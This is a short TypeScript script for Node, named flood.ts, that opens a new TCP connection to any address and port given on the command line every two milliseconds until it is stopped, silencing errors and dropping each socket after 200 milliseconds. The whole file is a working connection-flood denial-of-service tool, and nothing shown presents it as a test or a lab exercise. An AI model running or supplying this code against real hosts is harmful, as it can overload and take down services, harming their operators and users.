/** `node flood.ts ADDRESS PORT`: a new connection every two milliseconds, until killed. */
import { connect } from "node:net";

const [, , host, port] = process.argv;
setInterval(() => {
  const socket = connect({ host: host!, port: Number(port) });
  socket.on("error", () => undefined);
  setTimeout(() => socket.destroy(), 200);
}, 2);
